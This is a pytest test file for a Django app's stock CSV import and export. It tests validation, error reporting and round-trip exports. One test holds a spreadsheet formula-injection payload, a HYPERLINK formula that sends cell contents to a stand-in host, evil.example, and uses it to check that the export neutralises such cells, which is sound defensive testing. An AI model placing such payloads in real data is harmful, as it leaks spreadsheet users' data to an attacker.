"""stock_import_csv and stock_export_csv: all rows or none, every bad row by line, export re-imports as is."""

import csv
import io

import pytest

from accounts.tests.factories import SellerFactory
from core.actors import Actor
from core.csv import FORMULA_STARTS
from fulfillment.models import SKU, Stock
from fulfillment.services import StockImportError, stock_export_csv, stock_import_csv
from fulfillment.tests.factories import make_sku

pytestmark = pytest.mark.django_db

HEADER = "seller,sku,name,wholesale_cost,on_hand\n"
ACTOR = Actor.system("test")


def errors_for(text: str) -> list[str]:
    with pytest.raises(StockImportError) as caught:
        stock_import_csv(text=text, actor=ACTOR)
    return caught.value.errors


def test_a_byte_order_mark_before_the_header_is_ignored():
    SellerFactory(code="ACME")

    result = stock_import_csv(text="\ufeff" + HEADER + "ACME,MUG,Mug,1.00,2\n", actor=ACTOR)

    assert (result.created, result.updated) == (1, 0)


def test_missing_columns_are_named():
    assert errors_for("seller,sku,name\nACME,MUG,Mug\n") == [
        "line 1: missing column(s) wholesale_cost, on_hand; expected seller,sku,name,wholesale_cost,on_hand"
    ]


def test_header_only_is_refused():
    assert errors_for(HEADER) == ["the file has no data rows"]


def test_control_characters_are_row_errors():
    """PostgreSQL refuses NUL in text: it must be a reported row, not a database error at write time."""
    SellerFactory(code="ACME")

    errors = errors_for(HEADER + 'ACME,MUG,Mug,1.00,2\nACME,CUP,C\x00p,1.00,2\nACME,"TWO\nLINES",Two,1.00,2\n')

    assert errors == ["line 3: name contains a control character", "line 5: sku contains a control character"]
    assert not SKU.objects.exists()


def test_a_file_the_csv_reader_gives_up_on_is_reported_with_its_line():
    SellerFactory(code="ACME")

    errors = errors_for(HEADER + "ACME,MUG,Mug,1.00,2\n" + 'ACME,CUP,"' + "x" * 200_000 + '",1.00,2\n')

    assert len(errors) == 1
    assert errors[0].startswith("line 3: not readable as CSV")
    assert not SKU.objects.exists()


@pytest.mark.parametrize(
    ("cost", "on_hand", "expected"),
    [
        ("99999999999", "1", "wholesale_cost '99999999999'"),
        ("NaN", "1", "wholesale_cost 'NaN'"),
        ("Infinity", "1", "wholesale_cost 'Infinity'"),
        ("-1.00", "1", "wholesale_cost '-1.00'"),
        ("", "1", "wholesale_cost ''"),
        ("1.00", "3000000000", "on_hand '3000000000'"),
        ("1.00", "2.5", "on_hand '2.5'"),
    ],
)
def test_values_the_database_cannot_hold_are_row_errors(cost, on_hand, expected):
    SellerFactory(code="ACME")

    errors = errors_for(HEADER + f"ACME,MUG,Mug,{cost},{on_hand}\n")

    assert len(errors) == 1
    assert errors[0].startswith("line 2: ")
    assert expected in errors[0]


def test_rows_that_change_nothing_are_counted_as_unchanged():
    acme = SellerFactory(code="ACME")
    make_sku(seller=acme, code="MUG", on_hand=5, wholesale_cost=100)
    SKU.objects.filter(code="MUG").update(name="Mug")
    make_sku(seller=acme, code="CUP", on_hand=5, wholesale_cost=100)
    SKU.objects.filter(code="CUP").update(name="Cup")

    result = stock_import_csv(text=HEADER + "ACME,MUG,Mug,1.00,5\nACME,CUP,Cup,1.00,6\n", actor=ACTOR)

    assert (result.created, result.updated, result.unchanged) == (0, 1, 1)
    assert Stock.objects.get(sku__code="CUP").on_hand == 6


def test_an_export_re_imports_without_changes():
    acme, beta = SellerFactory(code="ACME"), SellerFactory(code="BETA")
    make_sku(seller=acme, code="MUG", on_hand=5, wholesale_cost=1999)
    make_sku(seller=beta, code="CAP", on_hand=0, wholesale_cost=5)

    exported = stock_export_csv()
    result = stock_import_csv(text=exported, actor=ACTOR)

    assert exported.splitlines()[0] == HEADER.strip()
    assert "ACME,MUG," in exported and ",19.99,5" in exported
    assert "BETA,CAP," in exported and ",0.05,0" in exported
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_an_export_never_starts_a_cell_with_a_formula_and_still_re_imports(start):
    """A spreadsheet runs a cell starting with = + - @ as a formula: the export quotes it, the import unquotes it."""
    acme = SellerFactory(code="ACME")
    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    SKU.objects.filter(pk=make_sku(seller=acme, code=f"{start}1+2", on_hand=3).pk).update(name=name)

    exported = stock_export_csv()
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    result = stock_import_csv(text=exported, actor=ACTOR)

    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    assert f"'{start}1+2" in cells
    sku = SKU.objects.get()
    assert (sku.code, sku.name) == (f"{start}1+2", name)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_an_export_quotes_a_cell_starting_with_a_tab_or_carriage_return(start):
    """Some spreadsheets skip these before looking for a formula (OWASP); such names only reach SKUs by hand."""
    acme = SellerFactory(code="ACME")
    SKU.objects.filter(pk=make_sku(seller=acme, code="MUG").pk).update(name=f"{start}=1+2")

    cells = [cell for row in csv.reader(io.StringIO(stock_export_csv())) for cell in row]

    assert f"'{start}=1+2" in cells
